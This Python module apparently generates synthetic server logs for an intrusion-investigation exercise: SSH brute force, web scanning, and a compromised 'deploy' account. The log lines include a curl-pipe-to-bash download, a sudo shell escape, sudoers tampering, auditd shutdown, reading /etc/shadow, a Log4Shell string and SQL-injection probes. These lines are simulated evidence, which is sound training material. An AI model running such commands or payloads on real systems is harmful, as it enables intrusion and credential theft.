"""What the hosts themselves log: syslog, web server, audit."""

import datetime

from day.cast import (ADMIN, BROWSERS, DAY, DROP, GUESSER, GUESSES, PATIENT_ZERO, WEB, at, iso)

def stamp_3164(second):
    moment = datetime.datetime(2026, 3, 11) + datetime.timedelta(seconds=int(second))
    return moment.strftime("%b %d %H:%M:%S")


def auth_log(dice):
    lines = []

    def say(second, program, message, pid=None, host="web01"):
        pid = pid or dice.between(1200, 29000)
        lines.append((second, f"{iso(second, '+00:00')} {host} {program}[{pid}]: {message}"))

    for hour in range(24):
        say(at(hour, 17, 1.2), "CRON",
            "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)")
        say(at(hour, 17, 1.3), "CRON", "pam_unix(cron:session): session closed for user root")
    for _ in range(14):
        second, pid = dice.office_time(), dice.between(2000, 29000)
        say(second, "sshd", f"Accepted publickey for k.wolf from {ADMIN} port "
            f"{dice.between(50000, 60000)} ssh2: ED25519 SHA256:{dice.text(43)}", pid)
        say(second + 0.1, "sshd",
            "pam_unix(sshd:session): session opened for user k.wolf(uid=1000) by (uid=0)", pid)
        say(second + 40, "sudo", "  k.wolf : TTY=pts/0 ; PWD=/home/k.wolf ; USER=root ; COMMAND="
            + dice.pick(("/usr/bin/apt-get update", "/usr/bin/systemctl reload nginx",
                         "/usr/bin/journalctl -u nginx", "/usr/bin/find /var/log -name *.gz")))
        say(second + dice.expo(900) + 60, "sshd", f"Disconnected from user k.wolf {ADMIN} port "
            f"{dice.between(50000, 60000)}", pid)
    for _ in range(30):
        say(dice.random() * 86400, "sshd", f"Connection closed by 192.0.2.{dice.between(90, 240)} "
            f"port {dice.between(30000, 60000)} [preauth]")
    for i in range(40):
        second, pid, user = at(11, 30, i * 15), 4000 + i, GUESSES[i % len(GUESSES)]
        port = 40000 + 2 * i
        known = user in ("root", "git", "deploy")
        if not known:
            say(second, "sshd", f"Invalid user {user} from {GUESSER} port {port}", pid)
        words = user if known else f"invalid user {user}"
        for k in range(4):
            say(second + 2 + k * 2.5, "sshd",
                f"Failed password for {words} from {GUESSER} port {port} ssh2", pid)
        say(second + 12, "sshd", f"Disconnecting {'authenticating' if known else 'invalid'} user "
            f"{user} {GUESSER} port {port}: Too many authentication failures [preauth]", pid)
    second = at(11, 41, 3)
    for k in range(3):
        say(second + k, "sshd", f"Failed password for deploy from {GUESSER} port 40090 ssh2", 4100)
    say(second + 4, "sshd", f"Accepted password for deploy from {GUESSER} port 40090 ssh2", 4100)
    say(second + 4.1, "sshd",
        "pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)", 4100)
    tty = "  deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND="
    for offset, command in ((70, "list"), (95, "/usr/bin/find . -maxdepth 0 -exec /bin/sh ;"),
                            (160, "/usr/bin/tee /etc/sudoers.d/90-deploy"),
                            (190, "/usr/bin/systemctl stop auditd"),
                            (420, "/bin/bash -c curl -fsSL http://198.51.100.77/k/i.sh | bash")):
        say(second + offset, "sudo", tty + command)
    say(second + 205, "usermod", "add 'deploy' to group 'docker'")
    say(second + 205.1, "usermod", "add 'deploy' to shadow group 'docker'")
    return [line for _, line in sorted(lines, key=lambda pair: pair[0])]


def system_log(dice):
    lines = []

    def say(second, host, tag, message):
        lines.append((second, f"{stamp_3164(second)} {host} {tag}: {message}"))

    def packet(second, source, target, port, way="IN=wan0 OUT=dmz0"):
        say(second, "fw01", "kernel", f"[{812000 + int(second)}.{dice.between(100000, 999999)}] "
            f"[UFW BLOCK] {way} MAC=02:42:0a:14:00:01:02:42:0a:14:00:02:08:00 SRC={source} "
            f"DST={target} LEN=60 TOS=0x00 PREC=0x00 TTL={dice.between(44, 63)} "
            f"ID={dice.between(1, 65535)} DF PROTO=TCP SPT={dice.between(30000, 60000)} "
            f"DPT={port} WINDOW=64240 RES=0x00 SYN URGP=0")

    for hour in range(24):
        say(at(hour, 17, 1), "web01", f"CRON[{dice.between(2000, 29000)}]",
            "(root) CMD (   cd / && run-parts --report /etc/cron.hourly)")
        say(at(hour, 5, 1), "web01", f"CRON[{dice.between(2000, 29000)}]",
            "(www-data) CMD (php -f /var/www/shop/cron.php)")
        for unit in ("logrotate", "fwupd-refresh", "apt-daily"):
            if dice.random() < 0.4:
                say(at(hour, dice.between(0, 59)), "web01", "systemd[1]",
                    f"{unit}.service: Deactivated successfully.")
    for _ in range(110):
        packet(dice.random() * 86400, f"192.0.2.{dice.between(90, 240)}", WEB,
               dice.pick((23, 445, 3389, 5060, 6379, 8080, 8443)))
    say(at(3, 2), "web01", "kernel", "[    0.000000] Linux version 6.1.0-31-amd64")
    for i in range(6):
        packet(at(10, 40, i * 3), PATIENT_ZERO, WEB, (22, 3389, 5985)[i % 3], "IN=lan0 OUT=dmz0")
    packet(at(9, 12, 50), PATIENT_ZERO, DROP, 445, "IN=lan0 OUT=wan0")
    packet(at(9, 12, 53), PATIENT_ZERO, DROP, 445, "IN=lan0 OUT=wan0")
    for offset, state in ((0, "Stopping"), (1, "Stopped")):
        say(at(11, 44, 13 + offset), "web01", "systemd[1]",
            f"{state} auditd.service - Security Auditing Service.")
    say(at(11, 49, 40), "web01", "crontab[4333]", "(deploy) REPLACE (deploy)")
    for minute in range(50, 60, 5):
        say(at(11, minute, 1), "web01", f"CRON[{4400 + minute}]",
            "(deploy) CMD (/dev/shm/.x/kworker -q)")
    say(at(11, 52, 8), "web01", "kernel", "[29521.331201] hidmod: module verification failed: "
        "signature and/or required key missing - tainting kernel")
    return [line for _, line in sorted(lines, key=lambda pair: pair[0])]


def access_log(dice):
    lines = []

    def say(second, who, request, status, size, agent, referrer="-"):
        moment = datetime.datetime(2026, 3, 11) + datetime.timedelta(seconds=int(second))
        lines.append((second, f'{who} - - [{moment.strftime("%d/%b/%Y:%H:%M:%S")} +0000] '
                      f'"{request} HTTP/1.1" {status} {size} "{referrer}" "{agent}"'))

    pages = ("/", "/catalog", "/catalog/anchors", "/catalog/ropes?page=2", "/cart", "/login",
             "/static/site.css", "/static/logo.svg", "/media/boat-114.jpg", "/impressum")
    for _ in range(420):
        page = dice.pick(pages)
        method = "POST" if page in ("/cart", "/login") and dice.random() < 0.4 else "GET"
        say(dice.random() * 86400, f"203.0.113.{dice.between(130, 250)}", f"{method} {page}",
            dice.pick((200, 200, 200, 200, 304, 302)), dice.between(300, 60000),
            dice.pick(BROWSERS), "https://shop.haldenwerft.example/")
    for uri, status in (("/.env", 404), ("/.git/config", 404), ("/backup.sql", 404),
                        ("/search?q=$%7Bjndi:ldap://192.0.2.66:1389/a%7D", 200),
                        ("/../../../../etc/passwd", 400), ("/.env.bak", 200)):
        say(at(10, 55, len(lines) % 60), GUESSER, f"GET {uri}", status, 812, "curl/8.5.0")
    for i in range(25):
        say(at(10, 56, i), GUESSER, f"GET /login?id={i}%27%20OR%201=1--", 403, 153,
            "sqlmap/1.8.4#stable (https://sqlmap.org)")
    return [line for _, line in sorted(lines, key=lambda pair: pair[0])]


def audit_log(dice):
    starts = []

    def program(second, argv, exe, uid=0, auid=4294967295, tty="(none)"):
        head = f"msg=audit({DAY + int(second)}.{dice.between(0, 999):03d}:@)"
        ids = " ".join(f"{k}={uid}" for k in ("uid", "gid", "euid", "suid", "fsuid", "egid",
                                              "sgid", "fsgid"))
        name = exe.rsplit("/", 1)[-1]
        arguments = " ".join(
            f'a{i}="{a}"' if " " not in a else f"a{i}={a.encode().hex().upper()}"
            for i, a in enumerate(argv))
        starts.append((second, [
            f"type=SYSCALL {head}: arch=c000003e syscall=59 success=yes exit=0 a0=55d0c1a2 "
            f"a1=55d0c1b8 a2=55d0c1d0 a3=8 items=2 ppid={dice.between(900, 4000)} "
            f"pid={dice.between(4000, 29000)} auid={auid} {ids} tty={tty} ses=4 comm=\"{name}\" "
            f"exe=\"{exe}\" subj=unconfined key=\"exec\"",
            f"type=EXECVE {head}: argc={len(argv)} {arguments}"]))

    for hour in range(24):
        program(at(hour, 17, 1), ("run-parts", "--report", "/etc/cron.hourly"),
                "/usr/bin/run-parts")
        program(at(hour, 5, 1), ("php", "-f", "/var/www/shop/cron.php"), "/usr/bin/php8.2", 33)
    for _ in range(25):
        program(dice.office_time(), dice.pick((("ls", "-la"), ("less", "/var/log/nginx/error.log"),
                                               ("tail", "-f", "/var/log/syslog"))),
                dice.pick(("/usr/bin/ls", "/usr/bin/less", "/usr/bin/tail")), 1000, 1000, "pts0")
    for offset, argv, exe, uid in (
            (0, ("id",), "/usr/bin/id", 1001), (6, ("uname", "-a"), "/usr/bin/uname", 1001),
            (93, ("sh", "-c", "find . -maxdepth 0 -exec /bin/sh ;"), "/usr/bin/dash", 0),
            (120, ("cat", "/etc/shadow"), "/usr/bin/cat", 0),
            (180, ("/dev/shm/.x/kworker", "-q"), "/dev/shm/.x/kworker", 0)):
        program(at(11, 41, 8) + offset, argv, exe, uid, 1001, "pts1")
    return [line.replace(":@)", f":{serial})")
            for serial, (_, group) in enumerate(sorted(starts, key=lambda pair: pair[0]), 7001)
            for line in group]
